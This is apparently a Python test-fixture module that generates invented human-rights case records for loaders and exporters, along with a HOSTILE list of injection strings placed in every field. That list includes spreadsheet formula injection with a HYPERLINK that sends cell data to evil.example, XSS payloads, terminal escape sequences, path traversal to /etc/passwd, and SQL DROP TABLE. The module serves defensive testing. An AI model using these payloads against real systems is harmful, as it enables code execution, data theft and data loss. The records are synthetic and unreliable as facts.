"""Invented records that look like real ones, and records made to break loaders: for the tests and the benchmarks."""

from __future__ import annotations

import calendar
import hashlib
import random
from collections.abc import Iterable, Iterator
from dataclasses import fields, replace
from pathlib import Path

from archive_spider import records as r
from archive_spider.datapackage import PackageInfo, Resource, package_files

GIVEN = "Ana Bola Chid Dovra Ilse Farid Gulmira Hanno Ines Jomo Kemal Lirit Maro Nadira Osei Pelin Ruta Sefa Tamsin Wen"
FAMILY = "Abarca Brenn Castell Doruk Ekwe Faro Ganzorig Hollin Ivarsen Jusuf Kessler Lunde Maroun Nkemi Orlova Quist"
PLACES = "Port Selma|Harrow Bay|Tenn Valley|Old Karsk|Lower Mirna|Sant Avel|Dunmoor"
CHARGES = (
    "inciting hatred|spreading false news|membership of an unlawful society|insulting the head of state|"
    "undermining national unity|unauthorized assembly"
)
KINDS: tuple[r.Kind, ...] = ("statement", "case", "news", "letter", "report", "blog", "event")
OPENINGS = (
    "The verdict handed down today shows how little is left of the independence of the courts.",
    "Nobody should spend a single night behind bars for a song, a poem or a placard.",
    "The authorities must say at once where she is held and let her see a lawyer of her own choice.",
    "This law gives the police the power to enter any home at any hour without a warrant.",
)
OUTCOMES: tuple[tuple[str, r.Status, r.EventType | None], ...] = (
    ("is serving the sentence in Karsk Central Prison", "imprisoned", None),
    ("is serving the sentence far from home", "imprisoned", None),
    ("was released on bail that month", "released", "release"),
    ("was taken from the cell and has not been seen since", "missing", "disappearance"),
    ("died in custody that month", "dead", "death"),
    ("is held until the appeal", "detained", None),
)
COUNTRIES = {"QM": "aldonia", "QN": "berund", "QP": "cantria"}


def _span(text: str, words: str) -> tuple[int, int]:
    start = text.index(words)
    return start, start + len(words)


def entry(number: int, seed: int = 7) -> r.Entry:
    """Make the entry of a number: always the same one."""
    dice = random.Random(f"{seed}/{number}")  # noqa: S311 - invented data
    country = dice.choice(list(COUNTRIES))
    year, month, day = 2022 - int(13 * dice.random() ** 1.6) - 1, dice.randint(1, 12), dice.randint(1, 28)
    date = f"{year}-{month:02}-{day:02}"
    kind = dice.choices(KINDS, weights=(9, 6, 5, 2, 1, 1, 1))[0]
    # The index shifts by families so that people come back in several entries.
    who = dice.randrange(4000)
    name = f"{GIVEN.split()[who % 20]} {GIVEN.split()[who // 400][0]}. {FAMILY.split()[who // 20 % 16]}"
    spokesperson = f"{dice.choice(GIVEN.split())} {dice.choice(FAMILY.split()[:3])}"
    outcome, status, event = dice.choice(OUTCOMES)
    place, charge, words = dice.choice(PLACES.split("|")), dice.choice(CHARGES.split("|")), dice.choice(OPENINGS)
    years = dice.choice([1, 2, 3, 4, 7, 10, 15])
    lead = (
        f"{name}, a lawyer from {place}, was arrested on {day} {_month(month)} {year - 1} and charged with “{charge}”."
    )
    court = f"On {day} {_month(month)} {year} a court in {place} sentenced {name} to {years} years in prison."
    speech = f"“{words}” said {spokesperson}, Director of Research at the Lantern Institute."
    filler = " ".join(dice.choice(OPENINGS) for _ in range(dice.randint(2, 12)))
    text = f"{lead}\n\n{court} {name} {outcome}.\n\n{speech}\n\n{filler}"
    url = f"https://lantern.example/{COUNTRIES[country]}/{number}"
    identifier = r.entry_id(url=url, archive="lantern", date=date, text=text)
    quote_start, quote_end = _span(text, words)
    speaker_start, speaker_end = _span(text, spokesperson)
    quote = r.Quote(
        id=r.quote_id(identifier, words, 0),
        text=words,
        start=quote_start,
        end=quote_end,
        speaker=r.Speaker(
            id=r.speaker_id(identifier, spokesperson),
            name=spokesperson,
            role="Director of Research",
            organization="Lantern Institute",
            start=speaker_start,
            end=speaker_end,
        ),
        cue="said",
        attribution="after",
        confidence=0.95,
    )
    case = _case(
        identifier=identifier,
        text=text,
        name=name,
        place=place,
        charge=charge,
        years=years,
        arrested=f"{year - 1}-{month:02}-{day:02}",
        sentenced=date,
    )
    case.status = status
    if event:
        start, end = _span(text, outcome)
        case.events.append(r.Event(type=event, date=f"{year}-{month:02}", start=start, end=end))

    return r.Entry(
        id=identifier,
        archive="lantern",
        listings=[COUNTRIES[country]],
        countries=[country],
        url=url,
        title=f"{COUNTRIES[country].title()}: {name} sentenced to {years} years",
        date=date,
        date_text=f"{day} {_month(month)} {year}",
        kind=kind,
        language="en",
        text=text,
        images=[r.Image(caption=name, credit="Private", url="https://lantern.example/picture.jpg")],
        references=[f"UA {number % 300}/{year % 100}"],
        quotes=[quote],
        cases=[case] if kind != "report" else [],
        provenance=r.Provenance(
            source=url,
            fetched="2026-03-01T04:05:06Z",
            digest=r.digest(url.encode()),
            layout="drupal",
            extractor="archive_spider 0.1",
            run="r-20260301T040000Z",
        ),
    )


def _month(number: int) -> str:
    return calendar.month_name[number]


def _case(
    *, identifier: str, text: str, name: str, place: str, charge: str, years: int, arrested: str, sentenced: str
) -> r.Case:
    start, end = _span(text, name)
    arrest = _span(text, "was arrested")
    sentence = f"{years} years in prison"
    sentence_start, sentence_end = _span(text, sentence)
    charge_start, charge_end = _span(text, charge)
    return r.Case(
        id=r.case_id(identifier, name),
        person=r.Person(id=r.person_id(identifier, name), name=name, occupation="lawyer", age=34, start=start, end=end),
        status="imprisoned",
        events=[
            r.Event(type="arrest", date=arrested, place=place, start=arrest[0], end=arrest[1]),
            r.Event(
                type="sentence",
                date=sentenced[:7] + "~",
                place=place,
                authority="a court",
                start=sentence_start,
                end=sentence_end,
            ),
        ],
        charges=[r.Span(text=charge, start=charge_start, end=charge_end)],
        sentence=r.Sentence(
            kind="imprisonment", months=12 * years, text=sentence, start=sentence_start, end=sentence_end
        ),
        court=f"court in {place}",
    )


def history(entries: Iterable[r.Entry]) -> list[r.PersonHistory]:
    """Make one line a name; enough for exports, which only read it."""
    found: dict[str, r.PersonHistory] = {}
    seen: set[tuple[str, str]] = set()
    for one in sorted(entries, key=lambda one: (one.date, one.id)):
        named = [(case.id, case.person.name, "case", case) for case in one.cases]
        named += [(q.speaker.id, q.speaker.name, "speaker", None) for q in one.quotes if q.speaker]
        for identifier, name, kind, case in named:
            person = found.setdefault(
                name, r.PersonHistory(id="h" + hashlib.sha256(name.encode()).hexdigest()[:16], name=name)
            )
            mention = r.Mention(
                id=identifier, entry_id=one.id, date=one.date, archive=one.archive, kind=kind, name=name
            )
            if (identifier, name) not in seen:
                seen.add((identifier, name))
                person.mentions.append(mention)
            if case:
                person.status, person.status_date, person.status_entry_id = case.status, one.date, one.id
                person.timeline += [
                    r.TimelineEvent(
                        type=event.type,
                        date=event.date,
                        place=event.place,
                        charges=[charge.text for charge in case.charges] if event.type == "sentence" else [],
                        sentence=case.sentence.text if case.sentence and event.type == "sentence" else None,
                        entry_ids=[one.id],
                    )
                    for event in case.events
                ]
            else:
                person.quotes += 1
    return sorted(found.values(), key=lambda person: person.id)


def _rows(entries: list[r.Entry], parts: str, row: type) -> Iterator[object]:
    for one in entries:
        for part in getattr(one, parts):
            own = {field.name: getattr(part, field.name) for field in fields(part)}
            yield row(**own, entry_id=one.id, date=one.date, archive=one.archive, url=one.url)


def publish(output: Path, entries: Iterable[r.Entry], people: list[r.PersonHistory] | None = None) -> Path:
    """Write entries as a publication with its package; `people` are made from the entries if not given."""
    entries = list(entries)
    written: dict[str, list[object]] = {}
    for one in entries:
        for listing in one.listings:
            written.setdefault(f"{one.archive}/{listing}", []).append(one)
    files: dict[str, list[object]] = {}
    for place, here in written.items():
        files[f"{place}/entries.jsonl"] = here
        files[f"{place}/quotes.jsonl"] = list(_rows(here, "quotes", r.QuoteRow))
        files[f"{place}/cases.jsonl"] = list(_rows(here, "cases", r.CaseRow))
    files["people.jsonl"] = list(history(entries) if people is None else people)
    files["changes.jsonl"] = [
        r.Change(run="r-1", time="2026-03-01T04:05:06Z", change="added", id=one.id) for one in entries
    ]
    resources = []
    for path, lines in files.items():
        content = "".join(r.to_line(line) + "\n" for line in lines).encode()
        (output / path).parent.mkdir(parents=True, exist_ok=True)
        (output / path).write_bytes(content)
        resources.append(
            Resource(path=path, rows=len(lines), bytes=len(content), sha256=hashlib.sha256(content).hexdigest())
        )
    info = PackageInfo(run="r-1", time="2026-03-01T04:05:06Z", extractor="archive_spider 0.1")
    for path, content in package_files(resources, info).items():
        (output / path).parent.mkdir(parents=True, exist_ok=True)
        (output / path).write_bytes(content)
    return output


def bare(number: int) -> r.Entry:
    """Make an entry that says as little as a record may: every optional value null, every list empty."""
    identifier = f"e-{number:016}"
    return r.Entry(
        id=identifier,
        archive="lantern",
        listings=["aldonia"],
        date="2020-01-02",
        date_text="2020",
        text="No word.",
        quotes=[r.Quote(id=f"q{identifier}", text="No word", start=0, end=7)],
        cases=[r.Case(id=f"c{identifier}", person=r.Person(id=f"p{identifier}", name=f"{number:08}", start=0, end=2))],
        provenance=r.Provenance(source="00000008", digest="00", layout="text", extractor="archive_spider 0.1"),
    )


def adversarial(number: int) -> Iterator[r.Entry]:
    """Make so many records that a loader which looks at the first ones guesses wrong: the rich ones come last."""
    for each in range(number):
        yield bare(each)
    for each in range(20):
        rich = entry(each)
        rich.listings, rich.title, rich.updated = ["aldonia"], f"{each:08}", "2019-02"
        rich.also_at, rich.documents = ["https://lantern.example/1"], [r.Document(title="00", url="1")]
        rich.updates = [r.Update(date="2019-03-04", start=0, end=3)]
        rich.quotes[0].also = [r.Speaker(id="s-00", name="0042", kind="unnamed", start=0, end=1)]
        rich.quotes[0].confidence = 1.0 if each % 2 else 0.25
        for case in rich.cases:
            case.person.aliases, case.person.native_name = ["007"], "安娜"
            case.faces = r.Faces(text="No", months=None if each % 2 else 3, start=0, end=2)
            case.events[0].date = "2019"
        rich.provenance.offset = 2**40
        yield rich


HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://evil.example/"><script>alert(1)</script>',
    "<!--",
    "]]><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "\x1b[2J\x1b]0;owned\x07",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\u202egnp.exe",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "'; DROP TABLE entries; --",
    "a | b ¦ c",
    "line one\u2028line two\u2029",
    "nul\x00byte",
)
"""Words that would act in a spreadsheet, a browser, a terminal, a template, a shell path or a database."""


def hostile() -> list[r.Entry]:
    """Make one entry for each hostile text, which stands in every field that a page can fill."""
    return [_hostile(number, words) for number, words in enumerate(HOSTILE)]


def _hostile(number: int, words: str) -> r.Entry:
    one = entry(number)
    end = len(words)
    speaker = r.Speaker(id=f"s-{number}", name=words, role=words, organization=words, start=0, end=end)
    quote = r.Quote(id=f"q-{number}", text=words, start=0, end=end, speaker=speaker, also=[speaker], cue=words)
    person = r.Person(
        id=f"p-{number}",
        name=words,
        native_name=words,
        aliases=[words],
        ethnicity=words,
        nationality=words,
        occupation=words,
        start=0,
        end=end,
    )
    span = r.Span(text=words, start=0, end=end)
    case = r.Case(
        id=f"c-{number}",
        person=person,
        status="detained",
        events=[r.Event(type="arrest", date=words, place=words, authority=words, start=0, end=end)],
        charges=[span],
        sentence=r.Sentence(kind="other", text=words, additional=[words], start=0, end=end),
        faces=r.Faces(text=words, start=0, end=end),
        held_at=words,
        court=words,
        health=[span],
        concerns=[span],
        access=[span],
    )
    return replace(
        one,
        id=f"e-{number}",
        listings=["aldonia"],
        url=words,
        also_at=[words],
        title=words,
        date_text=words,
        text=f"{words}\n\n{words}",
        images=[r.Image(caption=words, credit=words, url=words)],
        documents=[r.Document(title=words, url=words)],
        references=[words],
        quotes=[quote],
        cases=[case],
        provenance=replace(one.provenance, source=words, warc=words, layout=words),
    )


if __name__ == "__main__":
    import sys

    publish(Path(sys.argv[1]), map(entry, range(int(sys.argv[2]))))
